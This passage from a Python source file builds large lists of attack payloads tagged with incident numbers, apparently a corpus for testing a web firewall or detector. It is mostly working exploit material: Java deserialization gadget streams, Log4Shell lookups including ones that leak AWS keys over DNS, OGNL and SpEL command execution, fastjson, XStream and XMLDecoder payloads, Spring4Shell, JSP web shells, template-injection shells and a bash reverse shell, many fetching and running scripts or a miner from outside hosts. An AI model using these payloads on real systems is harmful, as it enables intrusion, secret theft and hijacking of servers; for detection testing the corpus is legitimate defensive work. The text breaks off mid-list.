    return (MAGIC + _cls("javax.management.BadAttributeValueExpException", "d4e7daab632d4640", [("L", "val", OBJ)])
            + _cls("org.apache.commons.collections.keyvalue.TiedMapEntry", "8aadd29b39c11fe0",
                   [("L", "key", OBJ), ("L", "map", "Ljava/util/Map;")]) + _s("foo")
            + _cls("org.apache.commons.collections.map.LazyMap", "6ee594829e791094", [("L", "factory", TRANSFORMER)],
                   "03")
            + _cls("org.apache.commons.collections.functors.ChainedTransformer", "30c797ec287a9704",
                   [("[", "iTransformers", "[" + TRANSFORMER)])
            + _cls("org.apache.commons.collections.functors.ConstantTransformer", "587690114102b194",
                   [("L", "iConstant", OBJ)])
            + "vr" + _u("java.lang.Runtime") + _h("0000000000000000") + "\x00\x00\x00xp"
            + _cls("org.apache.commons.collections.functors.InvokerTransformer", "87e8ff6b7b7cce38", invoker)
            + _s("getMethod") + _s("getRuntime") + _s("invoke") + _s("exec") + _s(cmd) + "x")


def gadget(classes: Sequence[str], *strings: str) -> str:
    """A gadget chain stream: each class of the chain as it appears in the stream, then its string values."""
    out = MAGIC
    for i, name in enumerate(classes):
        out += _cls(name, f"{0x1f2e3d4c5b6a7988 + 0x1111 * i:016x}", [("L", "next", OBJ)])
    return out + "".join(_s(text) for text in strings) + "x"


URLDNS_1 = urldns("jser.c7q2lp9x.oast.fun")
URLDNS_2 = urldns("ofbiz-203-0-113-47.dnslog.example.net")
CC_CURL = cc_chain("curl -s http://203.0.113.47/cc.sh -o /tmp/.cc")
CC_ID = cc_chain("id")
HASHMAP_HEAD = MAGIC + _cls("java.util.HashMap", "0507dac1c31660d1",
                            [("F", "loadFactor", ""), ("I", "threshold", "")], "03")
VIEWSTATE = base64.b64encode(gzip.compress(CC_ID.encode("latin-1"), mtime=0)).decode()
OFBIZ = ('<?xml version="1.0"?><methodCall><methodName>ProjectDiscovery</methodName><params><param><value><struct>'
         '<member><name>test</name><value><serializable xmlns="http://ws.apache.org/xmlrpc/namespaces/extensions">'
         + b64(CC_CURL) + '</serializable></value></member></struct></value></param></params></methodCall>')

JAVA_SER: list[Entry] = [
    # IR-2415, JBoss JMXInvokerServlet and a custom "state" parameter: the raw streams as the WAF alert showed them
    URLDNS_1,
    CC_ID,
    CC_CURL,
    HASHMAP_HEAD,
    MAGIC + "ur" + _u("[Ljava.lang.Object;") + _h("90ce589f1073296c") + "\x02\x00\x00xp\x00\x00\x00\x01" + _s("x"),
    # the same streams percent-encoded in the access log (sent as logged)
    q("state=" + urllib.parse.quote(URLDNS_2.encode("latin-1"), safe="") + "&t=1639406000"),
    q("data=%AC%ED%00%05sr%00%11java.util.HashMap%05%07%DA%C1%C3%16%60%D1%03%00%02F%00%0AloadFactorI%00%09"
      "thresholdxp"),
    # base64 forms: Authorization-style cookies, hidden fields and JSON properties carrying rO0AB
    b64(URLDNS_1),
    b64(HASHMAP_HEAD),
    (b64(CC_ID), "cookie", "rs-cookie"),
    f("javax.faces.ViewState=" + pct(b64(CC_ID)) + "&j_idt12=j_idt12&j_idt12%3Asubmit=Go"),
    # hex dumps pasted into the "import" field (aced0005...)
    CC_ID.encode("latin-1").hex(),
    URLDNS_1.encode("latin-1").hex(),
    # OFBiz XML-RPC (CVE-2020-9496) and the JSF ViewState gzip form
    (OFBIZ, *XD),
    f("javax.faces.ViewState=" + pct(VIEWSTATE)),
    # the URL-safe base64 variant tried after the plain one was blocked
    base64.urlsafe_b64encode(CC_CURL.encode("latin-1")).decode().rstrip("="),
]

SPRING1 = gadget(["org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
                  "org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                  "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"], "newTransformer", "getType")
GROOVY1 = gadget(["sun.reflect.annotation.AnnotationInvocationHandler",
                  "org.codehaus.groovy.runtime.ConvertedClosure", "org.codehaus.groovy.runtime.MethodClosure"],
                 "entrySet", "execute", "curl -s http://203.0.113.47/g.sh -o /tmp/g")
JDK7U21 = gadget(["java.util.LinkedHashSet", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
                  "sun.reflect.annotation.AnnotationInvocationHandler", "javax.xml.transform.Templates"],
                 "f5a5a608", "getOutputProperties")
C3P0 = gadget(["com.mchange.v2.c3p0.PoolBackedDataSource",
               "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase",
               "com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized", "javax.naming.Reference"],
              "Exploit", "http://203.0.113.47:8000/")
ROME = gadget(["java.util.HashMap", "com.sun.syndication.feed.impl.ObjectBean",
               "com.sun.syndication.feed.impl.ToStringBean", "com.sun.syndication.feed.impl.EqualsBean",
               "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"], "outputProperties")
HIBERNATE = gadget(["java.util.HashMap", "org.hibernate.engine.spi.TypedValue", "org.hibernate.type.ComponentType",
                    "org.hibernate.tuple.component.PojoComponentTuplizer",
                    "org.hibernate.property.BasicPropertyAccessor$BasicGetter",
                    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"], "outputProperties")
CC4 = gadget(["java.util.PriorityQueue", "org.apache.commons.collections4.comparators.TransformingComparator",
              "org.apache.commons.collections4.functors.InstantiateTransformer",
              "com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter"], "whoami")
BEANUTILS = gadget(["java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator",
                    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"], "outputProperties")
C3P0_HEX = ("HexAsciiSerializedMap:" + gadget(["java.util.HashMap", "org.apache.commons.collections.map.LazyMap",
                                               "org.apache.commons.collections.functors.InvokerTransformer"],
                                              "exec", "id").encode("latin-1").hex() + ";")
GADGETS: list[Entry] = [
    # IR-2421, the ysoserial chains replayed against the invoker: Commons Collections, Spring, Groovy, JDK 7u21,
    # C3P0, ROME, Hibernate, Commons BeanUtils (raw bytes, then base64 as the later waves sent them)
    SPRING1,
    GROOVY1,
    JDK7U21,
    C3P0,
    ROME,
    HIBERNATE,
    CC4,
    BEANUTILS,
    b64(SPRING1),
    b64(GROOVY1),
    b64(JDK7U21),
    b64(C3P0),
    b64(ROME),
    b64(HIBERNATE),
    b64(CC4),
    b64(BEANUTILS),
    # C3P0 through Jackson/fastjson (userOverridesAsString carrying a hex serialized map)
    ('{"@type":"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource","userOverridesAsString":"' + C3P0_HEX + '"}',
     *JB),
    # Groovy MethodClosure through XStream (marshalsec Expando)
    ('<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string>'
     '<org.codehaus.groovy.runtime.MethodClosure><delegate class="groovy.util.Expando"/><owner class="java.lang.'
     'ProcessBuilder"><command><string>bash</string><string>-c</string><string>curl -s http://203.0.113.47/xg.sh|'
     'sh</string></command></owner><method>start</method></org.codehaus.groovy.runtime.MethodClosure></entry>'
     '</expandoProperties></groovy.util.Expando><int>1</int></entry></map>', *XD),
]

# java / log4shell: ${jndi:...} lookups in anything Log4j 2 logs (User-Agent, X-Api-Version, form fields)
L4J_CMD = b64("curl -s http://203.0.113.47/ld.sh|bash")
L4J_WGET = b64("wget -qO- http://198.51.100.9/lh.sh|sh")
LOG4J: list[Entry] = [
    # IR-2501, December 2021: the first-day scanners, the callback probes, then the JNDIExploit droppers
    hdr("${jndi:ldap://203.0.113.47:1389/Exploit}", "User-Agent"),
    hdr("${jndi:ldap://c6t7q2l2vtc0000a1xk0gd7j3pyyyyyyn.interact.sh/a}", "X-Api-Version"),
    hdr("${jndi:rmi://198.51.100.9:1099/Object}", "Referer"),
    hdr("${jndi:dns://${hostName}.c6t7q2l2.oast.fun}", "X-Forwarded-For"),
    hdr("${jndi:ldap://203.0.113.47:1389/Basic/Command/Base64/" + L4J_CMD + "}", "User-Agent", "X-Test-Header"),
    hdr("${jndi:ldap://198.51.100.9:1389/TomcatBypass/Command/Base64/" + L4J_WGET + "}", "X-Api-Version",
        "Referer"),
    # exfiltration of secrets through the DNS name
    "${jndi:ldap://${env:AWS_ACCESS_KEY_ID}.${env:AWS_SECRET_ACCESS_KEY}.x1.oast.me/a}",
    "${jndi:ldap://${sys:java.version}.${sys:user.name}.d3.oast.pro/}",
    "${jndi:dns://${env:USER}.${env:HOSTNAME}.lk.c6t7q2l2.oast.fun/x}",
    # the nested-lookup variants after the first WAF rules went in
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://203.0.113.47:1389/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.9/poc}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.47/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.47/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.47/d}",
    "${JnDi:LdAp://203.0.113.47:389/o=tomcat}",
    "${${upper:j}ndi:${upper:l}dap://203.0.113.47/u}",
    # CVE-2021-45046 (localhost-only bypass) and CVE-2021-45105 (recursive lookup DoS)
    "${jndi:ldap://127.0.0.1#c6t7q2l2.oast.fun:1389/a}",
    "${${::-${::-$${::-j}}}}",
    # other JNDI protocols and an IPv6 callback
    "${jndi:ldaps://203.0.113.47:636/a}",
    "${jndi:iiop://203.0.113.47:1050/a}",
    "${jndi:ldap://[2001:db8::47]:1389/a}",
    # as the WAF alert logged them: encoded once and twice in the query string, with cache-busters
    q("q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.47%3A1389%2Fa%7D&_=1639220398"),
    q("x=%2524%257Bjndi%253Aldap%253A%252F%252F203.0.113.47%253A1389%252Fb%257D&v=99"),
]

# java / expression-language: OGNL (Struts, Confluence), SpEL (Spring Cloud), MVEL, JEXL (Nexus), JSP EL and
# commons-text interpolation, each as the product's own request carried it
S2_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
          "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
          "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
          "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
          "(#context.setMemberAccess(#dm)))).(#cmd='wget -qO- http://203.0.113.47/s2.sh|sh')."
          "(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))."
          "(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds))."
          "(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2.ServletActionContext"
          "@getResponse().getOutputStream())).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros))."
          "(#ros.flush())}")
SCG = ('{"id":"hacktest","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String('
       'T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]'
       '{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}')
NEXUS = ('{"name":"internal","online":true,"storage":{"blobStoreName":"default","strictContentTypeValidation":true},'
         '"group":{"memberNames":["$\\\\c{\'\'.getClass().forName(\'java.lang.Runtime\').getMethods()[6].invoke(null)'
         '.exec(\'touch /tmp/nexus\')}"]}}')
UNOMI = ('{"filters":[{"id":"boom","filters":[{"condition":{"parameterValues":{"":"script::Runtime r = '
         'Runtime.getRuntime(); r.exec(\\"curl -s http://203.0.113.47/un.sh -o /tmp/un\\");"},"type":'
         '"profilePropertyCondition"}}]}],"sessionId":"boom"}')
EL: list[Entry] = [
    # IR-2520, Confluence (CVE-2022-26134): the OGNL in the URL path, response header carrying the output
    ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),"
     "\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}",
     *PATH),
    ("${@java.lang.Runtime@getRuntime().exec(\"curl -s http://203.0.113.47/cf.sh -o /tmp/cf\")}", *PATH),
    # Confluence (CVE-2021-26084), the queryString parameter as logged
    f("queryString=aaaa\\u0027%2b#{\\u0022\\u0022[\\u0022class\\u0022].forName(\\u0022javax.script."
      "ScriptEngineManager\\u0022).newInstance().getEngineByName(\\u0022js\\u0022).eval(\\u0022var x=new "
      "java.lang.ProcessBuilder;x.command([\\u0027bash\\u0027,\\u0027-c\\u0027,\\u0027id\\u0027]);x.start()"
      "\\u0022)}%2b\\u0027"),
    # Struts 2 (S2-045, Equifax era) in Content-Type, and older parameter-borne OGNL
    hdr(S2_045, "Content-Type"),
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('touch /tmp/s2'))}",
    # Spring Cloud Function (CVE-2022-22963) routing header and Spring Cloud Gateway (CVE-2022-22947) route
    hdr("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/scf\")", "spring.cloud.function.routing-expression"),
    (SCG, *JB),
    # Spring Data Commons (CVE-2018-1273) bracket property path
    f("username[#this.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"touch /tmp/sd\")]=x&"
      "password=x&repeatedPassword=x"),
    # SpEL in error pages and message templates; the quote-free variant after quotes were filtered
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd').getInputStream()).next()}",
    "T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character)"
    ".toString(100)))",
    "${T(java.lang.System).getenv()}",
    # MVEL (Apache Unomi CVE-2020-13942) and MVEL orb tags
    (UNOMI, *JB),
    "@{java.lang.Runtime.getRuntime().exec('touch /tmp/mvel')}",
    # JEXL (Nexus CVE-2020-10199) and JSP/Jakarta EL
    (NEXUS, *JB),
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"exec\",\"\".getClass()).invoke(\"\".getClass()"
    ".forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),\"id\")}",
    "${pageContext.request.getSession().getServletContext().getRealPath(\"/\")}",
    "${applicationScope}",
    # Apache Commons Text (CVE-2022-42889, Text4Shell)
    "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/t4s')}",
    "${url:UTF-8:http://203.0.113.47/t4s}",
    "${dns:address|c6t7q2l2.oast.fun}",
]

# java / polymorphic-deserialization: fastjson autoType, Jackson default typing, XStream and XMLDecoder documents
TEMPLATES_CLASS = (_h("cafebabe00000034") + "\x00\x1c\x01" + _u("Exploit") + "\x01"
                   + _u("com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet") + "\x01"
                   + _u("java/lang/Runtime") + "\x01" + _u("getRuntime") + "\x01" + _u("exec") + "\x01"
                   + _u("curl -s http://203.0.113.47/tpl.sh -o /tmp/.t"))
WLS = ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
       '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" '
       'class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" '
       'length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void>'
       '<void index="2"><string>wget http://203.0.113.47/xmrig -O /tmp/.x;chmod +x /tmp/.x;/tmp/.x</string>'
       '</void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/>'
       '</soapenv:Envelope>')
WLS_2725 = ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsa='
            '"http://www.w3.org/2005/08/addressing" xmlns:asy="http://www.bea.com/async/AsyncResponseService">'
            '<soapenv:Header><wsa:Action>xx</wsa:Action><wsa:RelatesTo>xx</wsa:RelatesTo><work:WorkContext '
            'xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.lang.ProcessBuilder">'
            '<array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void '
            'index="1"><string>-c</string></void><void index="2"><string>curl -s http://198.51.100.9/w.sh|sh'
            '</string></void></array><void method="start"/></object></java></work:WorkContext></soapenv:Header>'
            '<soapenv:Body><asy:onAsyncDelivery/></soapenv:Body></soapenv:Envelope>')
S2_052 = ('<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.'
          'bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.'
          'xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.'
          'NullCipher"><initialized>false</initialized><opmode>0</opmode><serviceIterator class="javax.imageio.spi.'
          'FilterIterator"><iter class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$'
          'EmptyIterator"/><next class="java.lang.ProcessBuilder"><command><string>touch</string><string>/tmp/s2052'
          '</string></command><redirectErrorStream>false</redirectErrorStream></next></iter><filter class="javax.'
          'imageio.ImageIO$ContainsFilter"><method><class>java.lang.ProcessBuilder</class><name>start</name>'
          '<parameter-types/></method><name>foo</name></filter><next class="string">foo</next></serviceIterator>'
          '<lock/></cipher><input class="java.lang.ProcessBuilder$NullInputStream"/><ibuffer></ibuffer><done>false'
          '</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed></is><consumed>false</consumed>'
          '</dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen></value></jdk.nashorn.internal.objects.'
          'NativeString><jdk.nashorn.internal.objects.NativeString reference="../jdk.nashorn.internal.objects.'
          'NativeString"/></entry><entry><jdk.nashorn.internal.objects.NativeString reference="../../entry/jdk.'
          'nashorn.internal.objects.NativeString"/><jdk.nashorn.internal.objects.NativeString reference="../../'
          'entry/jdk.nashorn.internal.objects.NativeString"/></entry></map>')
POLY: list[Entry] = [
    # IR-2533, the fastjson API gateway: the DNS probe, 1.2.24, the 1.2.47 cache bypass, the L; and \u variants
    ('{"@type":"java.net.Inet4Address","val":"fj.c6t7q2l2.oast.fun"}', *JB),
    ('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.47:1389/Exploit",'
     '"autoCommit":true}', *JB),
    ('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.'
     'JdbcRowSetImpl","dataSourceName":"rmi://198.51.100.9:1099/Exploit","autoCommit":true}}', *JB),
    ('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://203.0.113.47:1389/L","autoCommit":true}',
     *JB),
    (r'{"\u0040\u0074\u0079\u0070\u0065":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.47:'
     r'1389/U","autoCommit":true}', *JB),
    ('{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":"com.sun.org.apache.'
     'bcel.internal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A$A$A$A$A$A$AmQ$cbN$c2$40$U$3d$D$85'
     '$96$w$o$be$dfoP$f7$ae$dd$98$I$c6$V$n$9a$d8$c5$8d$f8$e5$8c$n$tj$a4$b6Rj$f8$y$3f$c1$8f$b0$R$r$qJ"}', *JB),
    # Jackson default typing: JdbcRowSetImpl, logback H2 RUNSCRIPT, Spring XML context, xbean JNDI, HikariCP
    ('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://203.0.113.47:1389/obj","autoCommit":true}]', *JB),
    ('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;'
     'INIT=RUNSCRIPT FROM \'http://203.0.113.47:8000/inject.sql\'"}]', *JB),
    ('{"id":1,"obj":["org.springframework.context.support.FileSystemXmlApplicationContext",'
     '"http://203.0.113.47/spel.xml"]}', *JB),
    ('["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://203.0.113.47:1389/xbean"}]', *JB),
    ('{"@class":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://203.0.113.47:1389/hk"}', *JB),
    ('{"object":["com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",{"transletBytecodes":["'
     + b64(TEMPLATES_CLASS) + '"],"transletName":"a.b","outputProperties":{}}]}', *JB),
    # XStream: S2-052 REST plugin, the EventHandler sorted-set and tree-map
    (S2_052, *XD),
    ('<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class='
     '"java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>bash</string><string>-c'
     '</string><string>curl -s http://203.0.113.47/xs.sh|sh</string></command></target><action>start</action>'
     '</handler></dynamic-proxy></sorted-set>', *XD),
    ('<tree-map><entry><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.'
     'EventHandler"><target class="java.lang.ProcessBuilder"><command><string>touch</string><string>/tmp/xs2'
     '</string></command></target><action>start</action></handler></dynamic-proxy><string>good</string></entry>'
     '</tree-map>', *XD),
    # WebLogic wls-wsat XMLDecoder (CVE-2017-10271, the miner wave) and the CVE-2019-2725 object variant
    (WLS, *XD),
    (WLS_2725, *XD),
    ('<java><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>id</string></void>'
     '</object></java>', *XD),
    # SnakeYAML in a Spring Boot config endpoint
    ("!!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: ldap://203.0.113.47:1389/yml\n  autoCommit: true\n", *YB),
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
     "[\"http://203.0.113.47/yaml-payload.jar\"]]]]", *YB),
]

# java / class-loading: URLClassLoader, defineClass and friends loading the attacker's bytecode into the JVM
SPRING4SHELL = ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22"
                ".equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di"
                ".getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20int%20a%20%3D%20-1%3B%20"
                "byte%5B%5D%20b%20%3D%20new%20byte%5B2048%5D%3B%20while((a%3Din.read(b))!%3D-1)%7B%20out.println("
                "new%20String(b))%3B%20%7D%20%7D%20%25%7Bsuffix%7Di&class.module.classLoader.resources.context."
                "parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first."
                "directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix="
                "tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")
CLASSLOAD: list[Entry] = [
    # IR-2540, Spring4Shell (CVE-2022-22965): the probe, the access-log valve rewrite, the reset, the retry
    q("class.module.classLoader.URLs%5B0%5D=0"),
    f(SPRING4SHELL),
    f("class.module.classLoader.resources.context.parent.pipeline.first.pattern="),
    f("class%5B%27module%27%5D%5B%27classLoader%27%5D.resources.context.parent.pipeline.first.directory="
      "webapps/ROOT&x=1"),
    q("class.classLoader.resources.dirContext.docBase=/&t=1648654800"),
    # remote jars through URLClassLoader (Nashorn/SpEL sinks) and JMX MLet
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://203.0.113.47/e.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "#{new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL('http://203.0.113.47/x.jar')})"
    ".loadClass('Payload').getConstructor().newInstance()}",
    "var cl = new java.net.URLClassLoader([new java.net.URL(\"http://203.0.113.47/st.jar\")]); "
    "cl.loadClass(\"Stager\").newInstance();",
    "new javax.management.loading.MLet().getMBeansFromURL(\"http://203.0.113.47/mlet.html\")",
    # defineClass of inline bytecode (Spring cglib ReflectUtils)
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Exploit',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('" + b64(TEMPLATES_CLASS) + "'),new javax.management.loading.MLet(new java.net.URL[0],"
    "T(java.lang.Thread).currentThread().getContextClassLoader()))",
    # Jenkins Grape (CVE-2019-1003000) and Groovy parseClass
    "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='orange.tw', root='http://203.0.113.47/')\n"
    "@Grab(group='tw.orange', module='poc', version='1')\nimport Orange;",
    "this.class.classLoader.parseClass(new URL(\"http://203.0.113.47/Bd.groovy\").text).newInstance().run()",
    # H2 console: JDBC URL running a remote script, and CREATE ALIAS compiling Java
    "jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://203.0.113.47/evil.sql'",
    "CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException {Runtime.getRuntime().exec(cmd);"
    "return \"x\";}';CALL EXEC('id')",
]

# java / jsp-upload: JSP web shells written to Tomcat/JBoss through upload forms and path tricks (servlet
# container); the file names go as uploads carrying the shell, the shells themselves as field values
JSP_SHELL = ('<%@ page import="java.io.*" %><% if("023".equals(request.getParameter("pwd"))){ java.io.InputStream in'
             ' = Runtime.getRuntime().exec(request.getParameter("i")).getInputStream(); int a = -1; byte[] b = new '
             'byte[2048]; out.print("<pre>"); while((a=in.read(b))!=-1){ out.println(new String(b)); } '
             'out.print("</pre>"); } %>')
JSP: list[Entry] = [
    # IR-2555, the HR portal's CV upload: names tried one after another until one was served
    ("cmd.jsp", *FN),
    ("shell.jspx", *FN),
    ("../../webapps/ROOT/up.jsp", *FN),
    ("resume.jsp%00.pdf", *FN),
    ("resume.jsp;.pdf", *FN),
    ("avatar.JsP", *FN),
    ("..\\..\\webapps\\ROOT\\s.jsp", *FN),
    ("report.war", *FN),
    # the shells found on disk
    JSP_SHELL,
    "<%@ page import=\"java.util.*,java.io.*\"%><% Process p = Runtime.getRuntime().exec(request.getParameter("
    "\"cmd\")); DataInputStream dis = new DataInputStream(p.getInputStream()); String l = dis.readLine(); "
    "while(l != null){ out.println(l); l = dis.readLine(); } %>",
    "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:scriptlet>Runtime.getRuntime().exec("
    "request.getParameter(\"c\"));</jsp:scriptlet></jsp:root>",
    "<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U extends ClassLoader{U("
    "ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request."
    "getMethod().equals(\"POST\")){String k=\"e45e329feb5d925b\";session.putValue(\"u\",k);Cipher c=Cipher."
    "getInstance(\"AES\");c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));new U(this.getClass()."
    "getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine())))."
    "newInstance().equals(pageContext);}%>",
    "<%=new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"c\")).getInputStream())"
    ".useDelimiter(\"\\\\A\").next()%>",
    "<% \\u0052untime.getRuntime().exec(request.getParameter(\"c\")); %>",
]

# ----------------------------------------------------------------------------------------------------------------
# ssti / jinja2: Flask and Airflow-style apps rendering user text with render_template_string (Jinja2)
JINJA2: list[Entry] = [
    # IR-2601, the "preview your greeting" feature: the engine probe, the config dump, then the shells
    "{{7*'7'}}",
    "{{config.items()}}",
    "{{ get_flashed_messages.__globals__.current_app.config['SECRET_KEY'] }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('curl -s http://203.0.113.47/j2.sh | sh').read() }}",
    "{{ lipsum.__globals__[\"os\"].popen(\"cat /proc/self/environ\").read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__()[408]('id',shell=True,stdout=-1).communicate() }}",
    # after underscores and dots were filtered: attr() with hex escapes
    r"{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')"
    r"('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')"
    r"|attr('popen')('id')|attr('read')()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c.__init__."
    "__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}{% endif %}{% endfor %}",
    "{{ url_for.__globals__.os.environ }}",
    q("name=%7B%7B+joiner.__init__.__globals__.os.popen(%27id%27).read()+%7D%7D&_=1700000000"),
]

# ssti / twig: Symfony, Grav and Craft sites rendering user text with Twig (PHP)
TWIG: list[Entry] = [
    # IR-2610, the CMS newsletter template editor (Twig 1 and Twig 3 shells)
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')}}",
    "{{['id',0]|sort('system')}}",
    "{{[0]|reduce('system','curl -s http://203.0.113.47/t.sh|sh')}}",
    "{% set cmd = \"id\" %}{{ [cmd]|map(\"shell_exec\")|join }}",
    "{{[\"bash -c 'bash -i >& /dev/tcp/203.0.113.47/8443 0>&1'\"]|filter(\"exec\")}}",
    # Grav (CVE-2022-2073) and Symfony exfiltration
